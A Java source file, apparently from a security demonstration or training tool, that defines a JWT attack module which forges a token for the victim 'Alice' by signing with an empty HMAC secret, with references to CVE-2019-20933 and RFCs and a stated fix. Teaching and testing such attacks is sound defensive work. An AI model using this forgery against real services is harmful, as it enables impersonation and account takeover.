package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.server.jose.LegacyKeys;
import java.util.List;

/** Signs with the secret that nobody ever set. */
@AutoService(Attack.class)
public final class JwtBlankSecret extends JwtAttack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-blank-secret",
        "A secret that was never set",
        AttackGroup.JWT,
        "The attacker finds that an old token of their own was signed with an empty secret, and signs one about Alice in the same way.",
        "A token by a program that was set up without a secret.",
        "The setting for the secret was left empty, HMAC computes with an empty secret as with any other, and the server does not ask how long it is.",
        "blank-hmac-secret",
        List.of("CVE-2019-20933", "RFC 7518 §3.2", "RFC 8725 §3.5"),
        "Refuse to start without a secret, and refuse a secret that is shorter than the hash: 32 random bytes for HS256 (RFC 7518 §3.2).");
  }

  @Override
  String token(Target target) throws CredentialException {
    CompactToken own =
        CompactToken.parse(
            target.makes(
                "Take an old token of Dave's. Its header names an old secret of the server.",
                "token of Dave's",
                target.loot().ownTokenByOldSecret(LegacyKeys.BLANK)));
    SharedSecret nothing = new SharedSecret(new byte[0]);
    if (!nothing.sign(own).equals(own)) {
      throw new CredentialException("The secret is not empty.");
    }
    target.makes(
        "Sign its first two parts with an empty secret. The signature is the same, so the secret was never set.",
        "signature with an empty secret",
        own.signature());
    return target.makes(
        "Set sub to alice, and sign with the empty secret again.",
        "forged token",
        nothing.sign(own.withClaim("sub", Loot.VICTIM)).text());
  }
}
